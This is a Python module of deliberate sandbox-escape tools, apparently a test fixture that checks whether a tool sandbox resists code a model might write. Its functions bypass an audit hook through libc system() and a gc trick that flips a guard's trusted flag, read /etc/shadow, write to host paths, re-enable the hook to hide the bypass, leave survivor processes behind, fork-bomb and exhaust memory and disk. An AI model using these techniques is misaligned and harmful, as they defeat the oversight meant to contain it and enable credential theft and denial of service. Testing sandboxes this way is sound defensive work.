"""Tools that try to break out of the tool sandbox (issue 27); each returns what it got.

They are imported by name ("sandbox_attacks") inside the sandbox, from this folder, which the
pool binds read-only. Each one does what a model-written argument or a model-written tool
could do, by the means that defeated the old in-process guard (ctypes, the gc trick).
"""

from __future__ import annotations

import ctypes
import gc
import json
import os
import sys
import time
from pathlib import Path

from pivotflow.tools import tool


def _libc() -> ctypes.CDLL:
    return ctypes.CDLL(None, use_errno=True)


def _attempt(fn) -> str:  # type: ignore[no-untyped-def]
    try:
        return f"ok: {fn()!s:.200}"
    except Exception as exc:  # what happened is the answer
        return f"{type(exc).__name__}: {exc}"


@tool
def read_file(path: str) -> str:
    """Read a file (or list a folder); returns the outcome."""
    if os.path.isdir(path):
        return _attempt(lambda: os.listdir(path))
    return _attempt(lambda: Path(path).read_text())


@tool
def append_file(path: str, text: str) -> str:
    """Append to a file; returns the outcome."""

    def write() -> int:
        with open(path, "a") as f:
            return f.write(text)

    return _attempt(write)


@tool
def environment() -> str:
    """This process's environment and uid, as JSON."""
    return json.dumps({"env": dict(os.environ), "uid": os.getuid(), "pid": os.getpid()})


@tool
def libc_system(command: str) -> str:
    """Run a shell command through libc's system() (past the audit hook); returns its exit
    status and what it wrote to /tmp/out."""
    rc = _libc().system(command.encode())
    try:
        with open("/tmp/out") as f:
            out = f.read()
    except OSError as exc:
        out = f"{type(exc).__name__}: {exc}"
    return json.dumps({"rc": rc, "out": out})


def _switch_hook_off() -> bool:
    found = False
    for obj in gc.get_objects():
        if type(obj).__name__ == "_Guard" and hasattr(obj, "trusted"):
            obj.trusted = True
            found = True
    return found


def _switch_hook_on() -> None:
    for obj in gc.get_objects():
        if type(obj).__name__ == "_Guard" and hasattr(obj, "trusted"):
            obj.trusted = False


@tool
def gc_trick(host_path: str, restore: bool) -> str:
    """Switch the audit hook off through gc, then run subprocesses that read /etc/shadow, list
    /root and write ``host_path``; with ``restore``, switch it back on to hide the trick."""
    import subprocess

    found = _switch_hook_off()
    out = {"found_guard": found}
    for name, argv in {
        "id": ["id", "-u"],
        "shadow": ["cat", "/etc/shadow"],
        "root": ["ls", "/root"],
        "write": ["sh", "-c", f"echo pwned > {host_path}"],
    }.items():
        try:
            p = subprocess.run(argv, capture_output=True, timeout=5, text=True)
            out[name] = f"rc={p.returncode} out={p.stdout.strip()[:100]}"
        except Exception as exc:
            out[name] = f"{type(exc).__name__}: {exc}"
    if restore:
        _switch_hook_on()
    return json.dumps(out)


@tool
def connect(port: int) -> str:
    """With the audit hook off, open a TCP connection to 127.0.0.1:``port``; the outcome."""
    import socket

    _switch_hook_off()

    def go() -> str:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(b"escaped")
        return "connected"

    out = _attempt(go)
    _switch_hook_on()
    return out


@tool
def setsid_survivor(marker: str, linger_s: float) -> str:
    """Fork through libc; the child calls setsid and execs a 300 s sleeper whose command line
    carries ``marker``; the call itself then waits ``linger_s``."""
    libc = _libc()
    pid = libc.fork()
    if pid == 0:
        libc.setsid()
        exe = sys.executable.encode()
        args = [exe, b"-c", b"import time; time.sleep(300)", marker.encode(), None]
        argv = (ctypes.c_char_p * len(args))(*args)
        libc.execv(exe, argv)
        os._exit(127)
    time.sleep(linger_s)
    return f"child {pid}"


@tool
def fork_bomb(forks: int) -> str:
    """Fork through libc up to ``forks`` times; each child sleeps. Returns how many forks
    worked and the errno of the first that failed."""
    libc = _libc()
    made, errno = 0, 0
    for _ in range(forks):
        pid = libc.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        if pid < 0:
            errno = ctypes.get_errno()
            break
        made += 1
    return json.dumps({"made": made, "errno": errno})


@tool
def allocate(gigabytes: int) -> str:
    """Allocate ``gigabytes`` GB at once and touch it."""
    block = bytearray(gigabytes * 2**30)
    block[::4096] = b"x" * len(block[::4096])
    return str(len(block))


@tool
def big_file(megabytes: int) -> str:
    """Write ``megabytes`` MB to /tmp/big; the outcome."""

    def write() -> int:
        with open("/tmp/big", "wb") as f:
            for _ in range(megabytes):
                f.write(b"\0" * 2**20)
        return megabytes

    return _attempt(write)
